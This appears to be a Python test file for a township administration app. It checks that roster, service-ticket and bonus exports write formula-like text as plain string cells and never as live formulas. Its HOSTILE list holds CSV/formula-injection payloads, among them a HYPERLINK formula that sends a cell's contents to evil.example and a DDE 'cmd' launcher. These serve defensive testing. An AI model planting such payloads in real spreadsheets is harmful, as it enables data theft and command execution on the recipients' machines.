"""Safe output (issue 17): text that a spreadsheet could take for a formula —
=HYPERLINK(…), =cmd|…, +…, -…, @…, a leading tab or carriage return — is
written by every export as a plain string cell (Excel's own text marker),
never as a formula, and reads back unchanged; CSV cells get the OWASP
apostrophe."""

import datetime as dt
import re
import zipfile

import openpyxl
import pytest

from models.core import xlsx_read, xlsx_write
from models.core.xlsx_safety import csv_safe, looks_like_formula

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
           "\t=1+1", "\r=1+1"]


def no_formulas(path):
    """Every sheet of the file, as XML: no <f> element anywhere."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                xml = zf.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ >]", xml), f"{name} holds a formula"


def test_looks_like_formula_and_csv():
    assert all(looks_like_formula(v) for v in HOSTILE)
    assert not looks_like_formula("张三") and not looks_like_formula("") and not looks_like_formula(None)
    assert csv_safe("=1+1") == "'=1+1" and csv_safe("张三") == "张三" and csv_safe(3) == 3


def test_streaming_writer_keeps_them_text(tmp_path):
    path = tmp_path / "w.xlsx"
    with xlsx_write.Workbook(path) as wb:
        sheet = wb.add_sheet("s", [("a", 10), ("b", 10)])
        for v in HOSTILE:
            sheet.append([v, "x<&>y"])
    no_formulas(path)
    ws = openpyxl.load_workbook(path).active
    got = [ws.cell(r, 1) for r in range(2, 2 + len(HOSTILE))]
    assert all(c.data_type == "s" and c.quotePrefix for c in got)
    assert [c.value for c in got][:6] == HOSTILE[:6]  # (a lone carriage return is a line break to an XML reader)
    read = [values for _, values in xlsx_read.iter_rows(path)][1:]
    assert [r[0] for r in read][:5] == HOSTILE[:5] and read[0][1] == "x<&>y"


def test_roster_export_and_failed_rows(db, admin, tmp_path):
    from models.roster import io as roster_io
    from models.roster import team as roster

    for i, v in enumerate(HOSTILE[:5]):
        roster.add_cadre(db, admin, {"name": f"张{'一二三四五'[i]}", "note": v, "specialty": v})
    out = tmp_path / "r.xlsx"
    roster_io.export_xlsx(db, out)
    no_formulas(out)
    # the exported text comes back in unchanged (a village sheet's "=…" stays text on the way out too)
    from models.core import township
    from models.core import users
    from models.core.db import close_database, open_database

    other = open_database(tmp_path / "o.db")
    try:
        admin2 = users.create_user(other, "admin", "secret123", users.ADMIN)
        township.set_identity(other, admin2, name="乙镇", code="330106002")
        result = roster_io.import_xlsx(other, admin2, out)
        assert result.errors == [] and result.added == 5
        assert sorted(c["note"] for c in roster_io.export_rows(other)) == sorted(HOSTILE[:5])
        again = tmp_path / "again.xlsx"
        roster_io.export_xlsx(other, again)
        no_formulas(again)
    finally:
        close_database(other)
    bad = tmp_path / "bad.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["姓名", "电话", "备注"])
    wb.active.append(["张三", "123", HOSTILE[1]])
    wb.active.cell(2, 3).data_type = "s"
    wb.save(bad)
    failed = roster_io.import_xlsx(db, admin, bad)
    roster_io.export_problems_xlsx(failed, tmp_path / "failed.xlsx")
    no_formulas(tmp_path / "failed.xlsx")
    assert openpyxl.load_workbook(tmp_path / "failed.xlsx").active.cell(2, 3).value == HOSTILE[1]


def test_ledger_export(db, admin, tmp_path):
    from models.service import catalogue, tickets
    from models.service import io as tickets_io

    today = dt.date(2026, 11, 20)
    item = catalogue.add_item(db, admin, {"department": "民政", "name": "临时救助申请", "time_limit_days": 5})
    for v in HOSTILE[:5]:
        tickets.create_ticket(db, admin, {"applicant_name": "张三", "applicant_phone": "13800138000", "item_uuid": item,
                                          "request_text": v, "received_date": "2026-03-02",
                                          "applicant_village": "@村"}, today=today)
    out = tmp_path / "l.xlsx"
    tickets_io.export_ledger(db, out, "2026-01-01", "2026-12-31")
    no_formulas(out)
    texts = {c.value for row in openpyxl.load_workbook(out).active.iter_rows() for c in row}
    assert set(HOSTILE[:5]) <= texts
    for path in (tickets_io.write_template(db, tmp_path / "t.xlsx"),):
        no_formulas(path)


def test_rewards_export(db, admin, tmp_path):
    from models.assess import results as assess_results
    from models.assess import rewards
    from models.assess import scorecard as assess

    plan = assess.create_plan(db, admin, 2026, "机关考核", standard=False)
    cat = assess.add_category(db, admin, plan, "机关干部", standard=False)
    item = assess.add_item(db, admin, cat, "综合", "normal", 100, year_rule="period")
    ids = {n: assess.add_subject(db, admin, cat, n) for n in ("=HYPERLINK(1)", "乙")}
    assess.set_scores(db, admin, "Y", [(ids[n], item, 90, "") for n in ids])
    assess_results.recompute(db, plan)
    rewards.set_pool(db, admin, plan, "Y", 1000)
    path = rewards.export_xlsx(db, plan, tmp_path / "奖金.xlsx")
    no_formulas(path)
    names = {c.value for row in openpyxl.load_workbook(path)["考核奖金"].iter_rows() for c in row}
    assert "=HYPERLINK(1)" in names


@pytest.mark.parametrize("kind", ["roster", "tickets"])
def test_templates_hold_no_formula(db, kind, tmp_path):
    from models.roster import io as roster_io
    from models.service import io as tickets_io

    path = (roster_io if kind == "roster" else tickets_io).write_template(db, tmp_path / f"{kind}.xlsx")
    no_formulas(path)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[-1] == "说明" and wb.worksheets[0].data_validations.dataValidation


TYPED_LIKE_ESCAPES = ["见附件_x000D_说明", "_x0041_", "a_x005F_b", "编号_x12_不是转义", "_x000D_\x0b", "A_x1_B"]


def test_text_that_reads_like_an_ooxml_escape_comes_back_as_typed(tmp_path):
    """'_x000D_' typed in a note is OOXML's spelling of a carriage return: written as it is, a
    reader gives back a line break (LibreOffice also reads '_x12_' as a control character). The
    writer escapes its underscore; tests/test_xlsx_libreoffice.py reads the same file in LibreOffice."""
    path = tmp_path / "w.xlsx"
    write_typed_like_escapes(path)
    read = [values[0] for _, values in xlsx_read.iter_rows(path)][1:]
    assert read == TYPED_LIKE_ESCAPES


def write_typed_like_escapes(path):
    with xlsx_write.Workbook(path) as wb:
        sheet = wb.add_sheet("s", [("a", 10)])
        for v in TYPED_LIKE_ESCAPES:
            sheet.append([v])
